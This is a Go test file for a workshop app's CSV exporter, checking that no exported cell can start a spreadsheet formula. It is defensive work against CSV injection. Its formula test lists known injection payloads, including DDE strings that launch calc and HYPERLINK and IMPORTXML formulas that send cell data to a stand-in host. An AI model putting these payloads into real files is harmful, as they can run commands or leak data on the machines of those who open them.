package export

import (
	"encoding/csv"
	"strings"
	"testing"
	"unicode"

	"github.com/google/go-cmp/cmp"

	"convene/workshop"
)

// pinned is a wall with a cluster of one note, a note that stands alone and one that is parked.
func pinned(cluster, note, parked string) workshop.Canvas {
	card := func(s string) []workshop.Card { return []workshop.Card{{Text: s}} }
	return workshop.Canvas{Wall: []workshop.Column{{
		Prompt: workshop.PromptHow, Clusters: []workshop.Pile{{Title: cluster, Notes: card(note), Dots: 3}},
		Lone: card(note), Parked: card(parked),
	}}}
}

// spreadsheet reads a table as RFC 4180 has it, strictly.
func spreadsheet(t testing.TB, source string) [][]string {
	t.Helper()
	body, marked := strings.CutPrefix(source, "\ufeff")
	if !marked {
		t.Error("no byte order mark")
	}
	if bare := strings.ReplaceAll(body, "\r\n", ""); strings.ContainsAny(bare, "\r\n") || !strings.HasSuffix(body, "\r\n") {
		t.Errorf("a line doesn't end with CRLF in %q", body)
	}
	r := csv.NewReader(strings.NewReader(body))
	r.FieldsPerRecord = 5
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("%v in %q", err, body)
	}
	return rows
}

// typedIn is the text that a cell was made of.
func typedIn(cell string) string {
	parts := strings.Split(cell, ";")
	for i, p := range parts {
		if rest, ok := strings.CutPrefix(p, "'"); ok && (isFormula(rest) || i == 0 && isSign(rest)) {
			parts[i] = rest
		}
	}
	return strings.Join(parts, ";")
}

// dangerous says whether a spreadsheet could find a formula in a cell, also one that takes a semicolon for its end.
func dangerous(cell string) bool {
	for i, p := range strings.Split(cell, ";") {
		p = strings.TrimFunc(p, func(r rune) bool { return unicode.IsSpace(r) || !unicode.IsGraphic(r) })
		if p != "" && strings.ContainsAny(string([]rune(p)[:1]), "=+-@＝＋－＠\t\r\n") && (i == 0 || strings.ContainsFunc(p, isWord)) {
			return true
		}
	}
	return false
}

func TestEveryNoteIsARow(t *testing.T) {
	got := spreadsheet(t, string(written(t, FormatCSV, withForces())))
	want := [][]string{
		{"prompt", "cluster", "note", "dots", "parked"},
		{"vision", "We learn from one another", "Pair across teams", "5", "no"},
		{"vision", "We learn from one another", "Nobody is stuck, \"ever\"", "5", "no"},
		{"vision", "", "Fun", "2", "no"},
		{"vision", "", "Fewer meetings", "0", "yes"},
		{"how", "Coding dojo", "Coding dojo", "0", "no"},
		{"how", "Coding dojo", "Dojo", "0", "no"},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("-want +got:\n%s", diff)
	}
}

// OWASP, "CSV Injection", https://owasp.org/www-community/attacks/CSV_Injection: the signs it names, the wide ones, and
// formulas that are known from attacks.
func TestNoCellIsAFormula(t *testing.T) {
	for _, s := range []string{
		"=", "+", "-", "@", "\tx", "\rx", "\nx", "＝x", "＋x", "－x", "＠x",
		"=1+2", "=1+2\";=1+2", "=1+2'\" ;,=1+2", "=HYPERLINK(\"http://x.example?leak=\"&A1,\"Click\")", "=cmd|' /C calc'!A0",
		"=DDE(\"cmd\";\"/C calc\";\"x\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
		"=IMPORTXML(CONCAT(\"http://x.example?\",A1),\"//a\")", "=WEBSERVICE(\"http://x.example\")",
		"  =1", " \t=1", "\u00a0=1", "\u3000=1", "\u200b=1", "\u0000=1", "\ufeff=1", "'=1", "''=1", "' =1", "-5 °C", "+1",
		"a;=1+2", "a; =1", "a;;@SUM(A1)", "a;'=1", "a;＝1",
	} {
		for _, row := range spreadsheet(t, string(written(t, FormatCSV, pinned(s, s, s))))[1:] {
			for _, cell := range row[1:3] {
				if dangerous(cell) || strings.Trim(s, "\n\r\t") == s && cell != "" && !strings.Contains(cell, "'") {
					t.Errorf("%q became %q", s, cell)
				}
			}
		}
	}
}

func TestPlainCellsStayAsTheyAre(t *testing.T) {
	for _, s := range []string{
		"", "Fun", "a=b", "1-2", "don't", "'quoted'", "C++", "a@b.de", "5 + 3", "a,b", "\"x\"", "\"", "a;b", "李梅", "— dash", " lead", "fun ;-)", "a; b", "a;'b'", `\.`, "1e5",
	} {
		rows := spreadsheet(t, string(written(t, FormatCSV, pinned("x", "y", s))))
		if got := rows[3][2]; got != s {
			t.Errorf("%q became %q", s, got)
		}
	}
}

// FuzzCSV looks whether any text comes back out of its cell, and whether none can begin a formula.
func FuzzCSV(f *testing.F) {
	for _, s := range append(nastyTexts, "=1+1", "'=1", " +1", "\t-1", "＠x", "a,\"b\"\r\nc", "\r", "\n=1", "a;=1", "a;'=1", ";-)", ";'-)") {
		f.Add(s, s, s)
	}
	f.Fuzz(func(t *testing.T, cluster, note, parked string) {
		if cluster == "" {
			cluster = note // an untitled cluster is called by its first note
		}
		rows := spreadsheet(t, string(written(t, FormatCSV, pinned(cluster, note, parked))))
		if len(rows) != 4 {
			t.Fatalf("%d rows", len(rows))
		}
		line := strings.NewReplacer("\r\n", " ", "\r", " ", "\n", " ", "\t", " ")
		for _, c := range []struct{ cell, typed string }{
			{rows[1][1], cluster}, {rows[1][2], note}, {rows[2][2], note}, {rows[3][2], parked},
		} {
			if got := typedIn(c.cell); got != line.Replace(c.typed) {
				t.Errorf("%q became %q, which is read as %q", c.typed, c.cell, got)
			}
			if dangerous(c.cell) {
				t.Errorf("%q became %q", c.typed, c.cell)
			}
		}
	})
}
